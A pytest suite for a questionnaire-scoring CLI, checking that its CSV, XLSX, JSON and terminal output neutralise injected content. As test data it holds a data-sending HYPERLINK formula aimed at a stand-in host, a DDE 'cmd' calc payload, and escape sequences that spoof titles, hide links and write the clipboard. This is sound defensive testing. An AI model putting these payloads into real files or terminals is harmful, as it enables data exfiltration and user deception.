"""What dhti writes as text stays inert: CSV cells are never formulas, terminals never receive live
control sequences, and no output encoding makes a command crash."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from dhti.cli.main import writable_for_any_text
from dhti.registry import Registry
from dhti.safetext import csv_text, spreadsheet_cell, visible, without_accents
from dhti.store import open_store
from dhti.views.questionnaires import show_text
from dhti.views.scores import table
from dhti.views.store import compare_table, history_steps, history_table, list_table

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "questionnaires" / "examples" / "central-hospital-hanoi.yaml"
NAME = 'name: "Bệnh viện Đa khoa Trung ương Hồng Hà"'
ENTITY_ID = 'id: "01-BV-0107"'
PROVINCE = 'province: "Hà Nội"'

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
# What a hostile facility might call itself: a carriage return that overwrites the line, a window
# title (OSC 0), a hidden link (OSC 8), a clipboard write (OSC 52), a bell, a backspace, a colour.
HOSTILE_NAME = (
    "Real Hospital\rFAKE\x1b]0;pwned\x07\x1b]8;;http://127.0.0.1:9/\x1b\\link\x1b]8;;\x1b\\"
    "\x1b]52;c;cHduZWQ=\x07\x08\x1b[31mred\u202e"
)
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")  # what must never reach a terminal


def formula_variant(folder: Path) -> Path:
    """The sample hospital with formulas for its name and province, and an id that starts like one."""
    text = SAMPLE.read_text(encoding="utf-8")
    text = text.replace(NAME, "name: " + json.dumps(HYPERLINK)).replace(PROVINCE, 'province: "+SUM(1,2)"')
    path = folder / "formula.yaml"
    path.write_text(text.replace(ENTITY_ID, 'id: "-2-BV-0107"'), encoding="utf-8")
    return path


def hostile_variant(folder: Path) -> Path:
    text = SAMPLE.read_text(encoding="utf-8").replace(NAME, "name: " + json.dumps(HOSTILE_NAME))
    path = folder / "ansi.yaml"
    path.write_text(text.replace(ENTITY_ID, 'id: "ANSI-1"'), encoding="utf-8")
    return path


def stored(dhti, tmp_path: Path, *files: Path) -> str:
    db = str(tmp_path / "s.sqlite")
    result = dhti("db", "ingest", *map(str, files), "--db", db, lang=None)
    assert result.exit_code == 0, result.output
    return db


def assert_inert(text: str) -> None:
    """Like ``cat -v``: no ESC, CR, BEL, BS or other live control character is left."""
    assert not LIVE.search(text), repr(LIVE.findall(text))


# CSV


def test_cells_starting_a_formula_are_prefixed_and_numbers_are_not() -> None:
    for text in ("=1+1", "+SUM(1,2)", "-2+3", "@SUM(1+1)", "\tx", "\rx", "=cmd|' /C calc'!A0"):
        assert spreadsheet_cell(text) == "'" + text
    assert [spreadsheet_cell(v) for v in (-3.2, -3, 0.0, None, "Hà Nội", "a=b")] == [-3.2, -3, 0.0, "", "Hà Nội", "a=b"]
    assert csv_text(["a", "=b"], [[-3.2, "-3.2x"]]) == "a,'=b\n-3.2,'-3.2x\n"
    # a bare CR inside a cell is quoted: a reader would end the row there and start a forged one
    text = csv_text(["name", "n"], [["X\rFORGED", 1], ["Y\nZ", 2]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "n"], ["X\rFORGED", "1"], ["Y\nZ", "2"]]
    assert text.endswith('"Y\nZ",2\n')


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_score_csv_defuses_formulas(dhti, tmp_path: Path) -> None:
    result = dhti("score", str(formula_variant(tmp_path)), "--format", "csv", lang=None)
    assert result.exit_code == 0
    [row] = csv.DictReader(io.StringIO(result.stdout))
    assert (row["entity_id"], row["entity_name"], row["province"]) == ("'-2-BV-0107", "'" + HYPERLINK, "'+SUM(1,2)")
    assert formula_cells(result.stdout) == []


def test_store_csv_defuses_formulas(dhti, tmp_path: Path) -> None:
    db = stored(dhti, tmp_path, formula_variant(tmp_path))
    outputs = [
        dhti("db", "list", "--format", "csv", "--db", db, lang=None).stdout,
        dhti("db", "export", "--db", db, lang=None).stdout,
        dhti("history", "--format", "csv", "--db", db, "--", "-2-BV-0107", lang=None).stdout,
        dhti("compare", "#1", "#1", "--format", "csv", "--db", db, lang=None).stdout,
        dhti("db", "ingest", str(tmp_path / "formula.yaml"), "--format", "csv", "--db", db, lang=None).stdout,
    ]
    assert dhti("db", "export", "-o", str(tmp_path / "x.csv"), "--db", db, lang=None).exit_code == 0
    outputs.append((tmp_path / "x.csv").read_text(encoding="utf-8"))
    for text in outputs:
        assert text
        assert formula_cells(text) == []
    [row] = csv.DictReader(io.StringIO(outputs[1]))
    assert (row["entity_id"], row["entity_name"], row["province"]) == ("'-2-BV-0107", "'" + HYPERLINK, "'+SUM(1,2)")
    assert float(row["index"]) > 0


def test_history_csv_keeps_negative_changes_as_numbers(dhti, tmp_path: Path) -> None:
    before = formula_variant(tmp_path)
    after = tmp_path / "later.yaml"
    text = before.read_text(encoding="utf-8").replace("date: 2026-03-18", "date: 2027-03-18")
    after.write_text(text.replace("value: funded_reviewed", "value: none", 1), encoding="utf-8")
    db = stored(dhti, tmp_path, before, after)
    rows = list(
        csv.DictReader(
            io.StringIO(dhti("history", "--format", "csv", "--db", db, "--", "-2-BV-0107", lang=None).stdout)
        )
    )
    assert rows[1]["index_change"].startswith("-")
    assert float(rows[1]["index_change"]) < 0


def test_xlsx_holds_no_formula(dhti, tmp_path: Path) -> None:
    db = stored(dhti, tmp_path, formula_variant(tmp_path))
    target = tmp_path / "x.xlsx"
    assert dhti("db", "export", "--format", "xlsx", "-o", str(target), "--db", db, lang=None).exit_code == 0
    with zipfile.ZipFile(target) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet
    assert "<f " not in sheet
    cells = {
        ref: html.unescape(text) for ref, text in re.findall(r'<c r="([A-E]2)" t="inlineStr"><is><t>([^<]*)<', sheet)
    }
    assert (cells["B2"], cells["C2"], cells["E2"]) == ("-2-BV-0107", HYPERLINK, "+SUM(1,2)")


# terminals


def test_visible_shows_controls_as_escapes() -> None:
    assert visible("a\rb\x1b]0;t\x07\x08\t\n\u202ec\u200b") == "a\\rb\\x1b]0;t\\x07\\x08\\t\\n\\u202ec\\u200b"
    assert visible("Bệnh viện Hà Nội\u00a0") == "Bệnh viện Hà Nội\u00a0"
    assert visible(visible(HOSTILE_NAME)) == visible(HOSTILE_NAME)
    shown = table(["name", "n"], [[HOSTILE_NAME, "1"]])
    assert_inert(shown)
    assert len({len(line) for line in shown.splitlines()}) == 1  # the escapes are counted in the width


def hostile_store(dhti, tmp_path: Path) -> str:
    """A store whose assessment carries control characters, however they got there."""
    db = stored(dhti, tmp_path, SAMPLE)
    with sqlite3.connect(db) as connection:
        connection.execute(
            "update assessments set entity_name = ?, entity_id = 'ANSI-1', province = ?",
            (HOSTILE_NAME, "Hà\x08\x08Nội\r"),
        )
    connection.close()
    return db


def test_store_tables_show_controls_instead_of_acting_on_them(dhti, tmp_path: Path) -> None:
    db = hostile_store(dhti, tmp_path)
    for args in (["db", "list"], ["history", "ANSI-1"], ["compare", "#1", "#1"], ["history", "ANSI-1\x1b]0;x\x07"]):
        result = dhti(*args, "--db", db, "--lang", "en")
        assert_inert(result.stdout)
        assert_inert(result.stderr)
        if result.exit_code == 0:
            assert "Real Hospital\\rFAKE\\x1b]0;pwned\\x07\\x1b]8;;http://127.0.0.1:9/\\x1b\\link" in result.stdout
        else:
            assert "did you mean 'ANSI-1'?" in result.stderr
    with open_store(db) as store:  # the views themselves, as a program calling dhti gets them
        [assessment] = store.history("ANSI-1")
    steps = history_steps([assessment, assessment])
    for text in (list_table([assessment], lang="en"), history_table(steps, lang="en", titles={})):
        assert_inert(text)
    assert_inert(compare_table(assessment, assessment, lang="vi", titles={}))
    listed = json.loads(dhti("db", "list", "--format", "json", "--db", db, lang=None).stdout)
    assert listed[0]["entity"]["name"] == HOSTILE_NAME  # JSON keeps the exact text, escaped
    exported = dhti("db", "export", "--format", "json", "--db", db, lang=None).stdout
    assert_inert(exported)
    assert json.loads(exported)[0]["province"] == "Hà\x08\x08Nội\r"


def test_score_and_validate_show_controls(dhti, tmp_path: Path) -> None:
    hostile = hostile_variant(tmp_path)
    scored = dhti("score", str(hostile), lang=None)
    assert_inert(scored.stdout + scored.stderr)
    if scored.exit_code == 0:  # validation may also refuse such a name; either way nothing is live
        assert scored.stdout.startswith("Real Hospital\\rFAKE\\x1b]0;pwned\\x07")
    as_json = dhti("score", str(hostile), "--format", "json", lang=None)
    assert_inert(as_json.stdout)
    bad = tmp_path / "bad.yaml"
    text = SAMPLE.read_text(encoding="utf-8")
    bad.write_text(text.replace("value: funded_reviewed", 'value: "fund\\e]0;pwned\\aed\\r"', 1), encoding="utf-8")
    for args in (["validate", str(bad)], ["score", str(bad)], ["db", "ingest", str(bad), "--db", str(tmp_path / "d")]):
        result = dhti(*args, lang=None)
        assert result.exit_code == 1
        assert_inert(result.stdout + result.stderr)
        assert "\\x1b]0;pwned\\x07" in result.stdout + result.stderr


def test_questionnaire_show_shows_controls(dhti, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "qs"
    folder.mkdir()
    mini = (Path(__file__).parent / "data" / "mini.yaml").read_text(encoding="utf-8")
    hostile = mini.replace("id: mini", "id: evil", 1).replace("Mini questionnaire", "Mini\\e]0;pwned\\a\\rX", 1)
    assert hostile != mini
    (folder / "evil.yaml").write_text(hostile, encoding="utf-8")
    monkeypatch.setenv("DHTI_QUESTIONNAIRES", str(folder))
    for args in (["questionnaires", "show", "evil", "--lang", "en"], ["questionnaires", "list", "--lang", "en"]):
        result = dhti(*args)
        assert_inert(result.stdout + result.stderr)
        if result.exit_code == 0 and args[1] == "show":  # a questionnaire check may refuse it instead
            assert result.stdout.startswith("Mini\\x1b]0;pwned\\x07\\rX (evil@")
            assert_inert(show_text(Registry.discover().get("evil"), lang="en"))


# encodings


@pytest.mark.parametrize("encoding", ["cp1252", "cp1258", "latin-1", "ascii"])
def test_any_output_encoding_works(dhti, tmp_path: Path, encoding: str) -> None:
    db = stored(dhti, tmp_path, SAMPLE)
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        SAMPLE.read_text(encoding="utf-8").replace("value: funded_reviewed", "value: Bệnh", 1), encoding="utf-8"
    )
    env = {**os.environ, "PYTHONIOENCODING": encoding}
    env.pop("PYTHONUTF8", None)
    commands = {
        ("score", str(SAMPLE)): 0,
        ("score", str(SAMPLE), "--format", "json"): 0,
        ("validate", str(bad)): 1,
        ("db", "list", "--db", db): 0,
        ("questionnaires", "list"): 0,
    }
    for args, code in commands.items():
        done = subprocess.run(
            [sys.executable, "-m", "dhti", *args], capture_output=True, env=env, cwd=tmp_path, check=False, timeout=120
        )
        assert b"Traceback" not in done.stderr, (args, done.stderr)
        assert done.returncode == code, (args, done.stderr)
        assert done.stdout
        if args[-1] == "json":  # click writes UTF-8 to a stream that claims to be ASCII
            text = done.stdout.decode("utf-8" if encoding == "ascii" else encoding)
            assert json.loads(text)[0]["entity"]["name"] == "Bệnh viện Đa khoa Trung ương Hồng Hà"


def test_log_lines_show_controls(tmp_path: Path) -> None:
    folder = tmp_path / "qs"
    folder.mkdir()
    mini = (Path(__file__).parent / "data" / "mini.yaml").read_text(encoding="utf-8")
    broken = mini.replace("id: mini", "id: broken", 1).replace("\ntitle:", "\nbad: 1\ntitle:", 1)
    (folder / "bro\x1b]0;x\x07ken.yaml").write_text(broken, encoding="utf-8")  # the name is quoted as it is
    env = {**os.environ, "DHTI_QUESTIONNAIRES": str(folder)}
    done = subprocess.run(
        [sys.executable, "-m", "dhti", "questionnaires", "list", "--lang", "en"],
        capture_output=True,
        env=env,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0
    stderr = done.stderr.decode("utf-8")
    assert_inert(stderr)
    assert stderr.count("dhti: skipping a questionnaire: ") == 1
    assert stderr.count("bro\\x1b]0;x\\x07ken.yaml:4:1: error: unknown key 'bad'") == 1


def test_streams_take_any_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PYTHONIOENCODING", raising=False)
    code_page = io.TextIOWrapper(io.BytesIO(), encoding="cp1258")
    writable_for_any_text(code_page, windows=False)
    code_page.write("Bệnh viện Đa khoa ò \U0001f3e5")
    code_page.flush()
    written = code_page.buffer.getvalue().decode("cp1258")  # type: ignore[attr-defined]
    assert written == "B\\u1ec7nh vi\\u1ec7n Đa khoa \\u00f2 \\ud83c\\udfe5"
    assert json.loads(f'"{written}"') == "Bệnh viện Đa khoa ò \U0001f3e5"
    redirected = io.TextIOWrapper(io.BytesIO(), encoding="cp1252")  # a file, as on Windows
    writable_for_any_text(redirected, windows=True)
    assert redirected.encoding == "utf-8"


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("Trạm Y tế Đồng Văn", "Tram Y te Dong Van"),
        ("đường Nguyễn Huệ", "duong Nguyen Hue"),
        ("Hà Nội", "Ha Noi"),
        ("Ha\u0300 No\u0323\u0302i", "Ha Noi"),  # typed decomposed, as macOS does
        ("01-BV-0001", "01-BV-0001"),
        ("生", "生"),
    ],
)
def test_vietnamese_letters_lose_their_marks_and_nothing_else(text: str, plain: str) -> None:
    assert without_accents(text) == plain
